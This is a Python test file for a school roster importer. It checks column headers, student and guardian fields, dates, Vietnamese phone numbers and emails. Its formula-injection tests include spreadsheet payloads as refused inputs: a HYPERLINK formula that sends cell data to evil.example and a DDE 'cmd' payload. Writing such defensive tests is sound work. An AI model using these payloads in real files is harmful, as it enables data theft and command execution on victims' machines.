"""The roster file layout and the rules each row must meet: pure functions, no database."""

from __future__ import annotations

from datetime import date, datetime

import pytest

from contactbook.roster.reading import Cell
from contactbook.roster.rules import GuardianRow, RowError, StudentRow, many_leaving, match_header, parse_row
from contactbook.roster.template import HEADERS
from tests.roster.import_support import (
    BAD_DATE,
    BAD_EMAIL,
    BAD_GENDER,
    BAD_ID,
    CONTROL,
    DIGITS_IN_NAME,
    FORMULA,
    GUARDIAN_WITHOUT_NAME,
    IMPLAUSIBLE_BIRTH,
    NO_LETTERS,
    NOT_ASCII_ID,
    PHONE_LANDLINE,
    PHONE_NOT_DIGITS,
    PHONE_SCIENTIFIC,
    PHONE_SEVERAL,
    PHONE_TOO_FEW,
    REQUIRED,
    TOO_LONG,
    UNKNOWN_CLASS,
    student_row,
)

CLASS_NAMES = {"6A1": "6A1", "6A2": "6A2", "7A1": "7A1"}
YEAR_START = date(2025, 9, 5)
POSITIONS = match_header(HEADERS).positions
LINE = 7


def cells(row: dict[str, str], **overrides: Cell) -> list[Cell]:
    """The row's cells in the export's column order; `overrides` by header (spaces as underscores)."""
    values: dict[str, Cell] = {h: (v or None) for h, v in row.items()}
    for key, value in overrides.items():
        values[key.replace("_", " ")] = value
    return [values[h] for h in HEADERS]


def valid_row(**guardians: str) -> dict[str, str]:
    return student_row("79000000001", "Nguyễn Văn An", "6A1", **guardians)


def parse(row: dict[str, str], **overrides: Cell) -> StudentRow | list[RowError]:
    return parse_row(LINE, cells(row, **overrides), POSITIONS, CLASS_NAMES, YEAR_START)


def parsed(row: dict[str, str], **overrides: Cell) -> StudentRow:
    result = parse(row, **overrides)
    assert isinstance(result, StudentRow), result
    return result


def errors(row: dict[str, str], **overrides: Cell) -> list[tuple[int, str, str, str]]:
    """(line, column header, value, reason) of each error of the row."""
    result = parse(row, **overrides)
    assert isinstance(result, list), f"the row was accepted: {result}"
    return [(e.line, e.column, e.value, e.reason) for e in result]


# --- Headers ----------------------------------------------------------------------------------------


def test_the_exports_own_headers_match_every_field() -> None:
    match = match_header(HEADERS)
    assert match.missing == []
    assert [match.positions[key] for key in ("national_id", "full_name", "date_of_birth", "class_name")] == [0, 1, 2, 4]
    assert match.positions["guardian_email"] == len(HEADERS) - 1


def test_headers_match_ignoring_case_accents_and_spacing() -> None:
    header = ["  MÃ ĐỊNH DANH ", "ho va ten", "Ngày   sinh", "GIOI TINH", "lớp", "ho ten  me", "dien thoai me"]
    match = match_header(header)
    assert match.missing == []
    assert match.positions == {
        "national_id": 0,
        "full_name": 1,
        "date_of_birth": 2,
        "gender": 3,
        "class_name": 4,
        "mother_name": 5,
        "mother_phone": 6,
    }


def test_headers_match_the_other_names_exports_use() -> None:
    header = ["Mã HS", "Họ tên học sinh", "Ngày/tháng/năm sinh", "Tên lớp", "Họ và tên cha", "SĐT cha", "E-mail mẹ"]
    assert match_header(header).positions == {
        "national_id": 0,
        "full_name": 1,
        "date_of_birth": 2,
        "class_name": 3,
        "father_name": 4,
        "father_phone": 5,
        "mother_email": 6,
    }


def test_columns_that_are_not_part_of_the_layout_are_ignored() -> None:
    header = ["STT", "Mã định danh", "Dân tộc", "Họ và tên", "Ngày sinh", "Nơi sinh", "Lớp", ""]
    match = match_header(header)
    assert match.missing == []
    assert match.positions == {"national_id": 1, "full_name": 3, "date_of_birth": 4, "class_name": 6}


def test_missing_required_columns_are_listed_by_their_export_header() -> None:
    match = match_header(["STT", "Họ và tên", "Giới tính", "Họ tên cha"])
    assert match.missing == ["Mã định danh", "Ngày sinh", "Lớp"]


def test_of_two_columns_for_the_same_field_the_first_is_read() -> None:
    assert match_header(["Mã HS", "Mã định danh"]).positions["national_id"] == 0


# --- A valid row ------------------------------------------------------------------------------------


def test_a_valid_row_becomes_a_student_with_normalised_guardians() -> None:
    row = valid_row(
        father_name="Nguyễn Văn Bình",
        father_phone="0912 345 678",
        mother_name="Trần Thị Cúc",
        mother_phone="0987.654.321",
        mother_email="Cuc.Tran@Example.VN",
    )
    assert parse(row) == StudentRow(
        line=LINE,
        national_id="79000000001",
        full_name="Nguyễn Văn An",
        date_of_birth=date(2013, 9, 5),
        gender="male",
        class_name="6A1",
        guardians=(
            GuardianRow("father", "Nguyễn Văn Bình", "+84912345678", None),
            GuardianRow("mother", "Trần Thị Cúc", "+84987654321", "cuc.tran@example.vn"),
        ),
    )


def test_names_have_their_spaces_collapsed() -> None:
    assert parsed(valid_row(), Họ_và_tên="  Nguyễn   Văn  An ").full_name == "Nguyễn Văn An"


@pytest.mark.parametrize("written", ["\u202e\u202e", "...", "\u200b", "( )"])
@pytest.mark.parametrize("header", ["Họ và tên", "Họ tên mẹ"])
def test_a_name_without_letters_is_refused(header: str, written: str) -> None:
    row = valid_row(mother_name="Trần Thị Cúc", mother_phone="0987654321")

    assert errors(row, **{header.replace(" ", "_"): written}) == [(LINE, header, written, NO_LETTERS)]


def test_names_are_kept_without_bidi_or_invisible_characters() -> None:
    row = parsed(valid_row(mother_name="Trần\u200b Thị\u202e Cúc"), Họ_và_tên="\u202eNguyễn Văn\u2066 An\u2069")
    assert (row.full_name, row.guardians[0].full_name) == ("Nguyễn Văn An", "Trần Thị Cúc")


@pytest.mark.parametrize(("written", "gender"), [("Nam", "male"), ("Nữ", "female"), ("NỮ", "female"), ("nu", "female")])
def test_gender_is_read_as_nam_or_nu_in_any_case_or_accents(written: str, gender: str) -> None:
    assert parsed(valid_row(), Giới_tính=written).gender == gender


def test_gender_may_be_left_empty() -> None:
    assert parsed(valid_row(), Giới_tính=None).gender is None


@pytest.mark.parametrize("written", ["6a1", " 6A1 ", "6 A1"])
def test_the_class_is_recognised_ignoring_case_and_spaces(written: str) -> None:
    assert parsed(valid_row(), Lớp=written).class_name == "6A1"


def test_a_student_id_that_excel_turned_into_a_number_is_read_as_digits() -> None:
    assert parsed(valid_row(), Mã_định_danh=79000000001.0).national_id == "79000000001"
    assert parsed(valid_row(), Mã_định_danh=79000000001).national_id == "79000000001"


def test_a_guardian_with_a_name_only_is_kept_without_contact() -> None:
    assert parsed(valid_row(guardian_name="Lê Văn Cường")).guardians == (
        GuardianRow("guardian", "Lê Văn Cường", None, None),
    )


def test_a_guardian_recognised_by_phone_else_email_else_name() -> None:
    assert GuardianRow("father", "Lê Văn Cường", "+84912345678", "c@example.vn").key == "+84912345678"
    assert GuardianRow("father", "Lê Văn Cường", None, "c@example.vn").key == "c@example.vn"
    assert GuardianRow("father", "Lê  Văn Cường", None, None).key == "name:le van cuong"


# --- Required cells and the student id -------------------------------------------------------------


@pytest.mark.parametrize("header", ["Mã định danh", "Họ và tên", "Ngày sinh", "Lớp"])
def test_each_required_cell_left_empty_is_reported_in_its_column(header: str) -> None:
    assert errors(valid_row(), **{header.replace(" ", "_"): None}) == [(LINE, header, "", REQUIRED)]


def test_a_cell_of_spaces_counts_as_empty() -> None:
    assert errors(valid_row(), Mã_định_danh="   ") == [(LINE, "Mã định danh", "", REQUIRED)]


@pytest.mark.parametrize("national_id", ["1234567", "1234567890123456", "79A0000001", "79 000 001"])
def test_a_student_id_must_be_8_to_15_digits(national_id: str) -> None:
    assert errors(valid_row(), Mã_định_danh=national_id) == [(LINE, "Mã định danh", national_id, BAD_ID)]


@pytest.mark.parametrize("national_id", ["١٢٣٤٥٦٧٨٩", "１２３４５６７８", "7900000000١", "۱۲۳۴۵۶۷۸۹"])
def test_a_student_id_in_other_digits_than_0_to_9_is_refused(national_id: str) -> None:
    assert errors(valid_row(), Mã_định_danh=national_id) == [(LINE, "Mã định danh", national_id, NOT_ASCII_ID)]


@pytest.mark.parametrize(
    ("leaving", "active", "warned"),
    [(5, 30, False), (6, 30, True), (6, 100, True), (2, 10, False), (3, 10, True), (1, 3, True), (0, 3, False)],
)
def test_more_than_five_or_a_fifth_of_a_class_leaving_needs_a_confirmation(
    leaving: int, active: int, warned: bool
) -> None:
    assert many_leaving(leaving, active) is warned


def test_a_name_with_digits_is_refused() -> None:
    assert errors(valid_row(), Họ_và_tên="Nguyễn Văn An 2") == [(LINE, "Họ và tên", "Nguyễn Văn An 2", DIGITS_IN_NAME)]


def test_a_row_with_several_errors_reports_every_one() -> None:
    row = valid_row(father_phone="0912345678")
    assert errors(row, Mã_định_danh=None, Ngày_sinh="31/02/2013", Lớp="9A9") == [
        (LINE, "Mã định danh", "", REQUIRED),
        (LINE, "Ngày sinh", "31/02/2013", BAD_DATE),
        (LINE, "Lớp", "9A9", UNKNOWN_CLASS),
        (LINE, "Họ tên cha", "", GUARDIAN_WITHOUT_NAME),
    ]


# --- Dates ------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("written", "expected"),
    [
        ("05/09/2013", date(2013, 9, 5)),
        ("5/9/2013", date(2013, 9, 5)),
        ("29/02/2012", date(2012, 2, 29)),
        ("31/12/2012", date(2012, 12, 31)),
    ],
)
def test_dates_are_read_day_first(written: str, expected: date) -> None:
    assert parsed(valid_row(), Ngày_sinh=written).date_of_birth == expected


def test_an_excel_date_cell_is_read_as_its_date() -> None:
    assert parsed(valid_row(), Ngày_sinh=datetime(2013, 9, 5, 0, 0)).date_of_birth == date(2013, 9, 5)
    assert parsed(valid_row(), Ngày_sinh=date(2013, 9, 5)).date_of_birth == date(2013, 9, 5)


@pytest.mark.parametrize("written", ["31/02/2013", "29/02/2013", "05/13/2013", "00/09/2013", "2013-09-05", "5 tháng 9"])
def test_impossible_or_unreadable_dates_are_refused(written: str) -> None:
    assert errors(valid_row(), Ngày_sinh=written) == [(LINE, "Ngày sinh", written, BAD_DATE)]


@pytest.mark.parametrize("written", ["05/09/2024", "05/09/1990"])
def test_a_date_of_birth_that_does_not_fit_a_student_is_refused(written: str) -> None:
    assert errors(valid_row(), Ngày_sinh=written) == [(LINE, "Ngày sinh", written, IMPLAUSIBLE_BIRTH)]


# --- Gender and class -------------------------------------------------------------------------------


def test_an_unknown_gender_is_refused() -> None:
    assert errors(valid_row(), Giới_tính="Khác") == [(LINE, "Giới tính", "Khác", BAD_GENDER)]


def test_a_class_that_the_year_does_not_have_is_refused() -> None:
    assert errors(valid_row(), Lớp="6A9") == [(LINE, "Lớp", "6A9", UNKNOWN_CLASS)]


# --- Phones and emails ------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("written", "e164"),
    [
        ("0912345678", "+84912345678"),
        ("0912 345 678", "+84912345678"),
        ("+84 912 345 678", "+84912345678"),
        ("'0912345678", "+84912345678"),
        (912345678, "+84912345678"),
        ("01234567890", "+84834567890"),
    ],
)
def test_phones_are_stored_in_international_form(written: Cell, e164: str) -> None:
    row = parsed(valid_row(father_name="Nguyễn Văn Bình"), Điện_thoại_cha=written)
    assert row.guardians[0].phone == e164


@pytest.mark.parametrize(
    ("written", "reason"),
    [
        ("0912abc678", PHONE_NOT_DIGITS),
        ("02438221234", PHONE_LANDLINE),
        ("091234567", PHONE_TOO_FEW),
        ("9.12E+08", PHONE_SCIENTIFIC),
        ("0912345678 / 0987654321", PHONE_SEVERAL),
    ],
)
def test_a_bad_phone_gives_the_normalisers_reason(written: str, reason: str) -> None:
    row = valid_row(mother_name="Trần Thị Cúc")
    assert errors(row, Điện_thoại_mẹ=written) == [(LINE, "Điện thoại mẹ", written, reason)]


@pytest.mark.parametrize("written", ["cuc@", "cuc.example.vn", "cúc@@example.vn"])
def test_a_bad_email_is_refused(written: str) -> None:
    row = valid_row(mother_name="Trần Thị Cúc")
    assert errors(row, Email_mẹ=written) == [(LINE, "Email mẹ", written, BAD_EMAIL)]


# --- Guardians without a name -----------------------------------------------------------------------


def test_a_guardian_with_a_phone_but_no_name_is_refused_in_the_name_column() -> None:
    assert errors(valid_row(father_phone="0912345678")) == [(LINE, "Họ tên cha", "", GUARDIAN_WITHOUT_NAME)]


def test_a_guardian_with_an_email_but_no_name_is_refused_in_the_name_column() -> None:
    assert errors(valid_row(guardian_email="gh@example.vn")) == [
        (LINE, "Họ tên người giám hộ", "", GUARDIAN_WITHOUT_NAME)
    ]


# --- Formula injection and unsafe text --------------------------------------------------------------


@pytest.mark.parametrize(
    "written", ['=HYPERLINK("http://evil.example/?x="&A1,"Nguyễn Văn An")', "+Nguyễn", "-Nguyễn", "@SUM(A1)"]
)
def test_a_formula_in_the_students_name_is_refused(written: str) -> None:
    assert errors(valid_row(), Họ_và_tên=written) == [(LINE, "Họ và tên", written, FORMULA)]


@pytest.mark.parametrize("written", ["=6A1", "+6A1", "-6A1", "@6A1"])
def test_a_formula_in_the_class_cell_is_refused(written: str) -> None:
    assert errors(valid_row(), Lớp=written) == [(LINE, "Lớp", written, FORMULA)]


def test_a_formula_in_a_guardians_name_is_refused() -> None:
    assert errors(valid_row(), Họ_tên_mẹ="=cmd|' /C calc'!A0") == [(LINE, "Họ tên mẹ", "=cmd|' /C calc'!A0", FORMULA)]


def test_a_formula_in_a_guardians_email_is_refused() -> None:
    row = valid_row(mother_name="Trần Thị Cúc")
    assert errors(row, Email_mẹ="@evil.example") == [(LINE, "Email mẹ", "@evil.example", FORMULA)]


def test_a_phone_written_with_plus_84_is_not_taken_for_a_formula() -> None:
    row = parsed(valid_row(father_name="Nguyễn Văn Bình", father_phone="+84912345678"))
    assert row.guardians[0].phone == "+84912345678"


def test_control_characters_in_a_cell_are_refused() -> None:
    assert errors(valid_row(), Họ_và_tên="Nguyễn\x07An") == [(LINE, "Họ và tên", "Nguyễn\x07An", CONTROL)]


def test_a_name_longer_than_200_characters_is_refused() -> None:
    long_name = "Nguyễn " * 40
    assert errors(valid_row(), Họ_và_tên=long_name) == [(LINE, "Họ và tên", long_name.strip(), TOO_LONG)]


@pytest.mark.parametrize("written", ["٠٥/٠٩/٢٠١٣", "０５/０９/２０１３", "05/09/２０１３"])
def test_a_date_of_birth_in_other_digits_than_0_to_9_is_refused(written: str) -> None:
    assert errors(valid_row(), Ngày_sinh=written) == [(LINE, "Ngày sinh", written, BAD_DATE)]


@pytest.mark.parametrize("name", ['＝HYPERLINK("x")', "\n=1+1"])
def test_a_name_starting_with_any_formula_sign_the_exports_neutralise_is_refused(name: str) -> None:
    assert [error[1] for error in errors(valid_row(), Họ_và_tên=name)] == ["Họ và tên"]
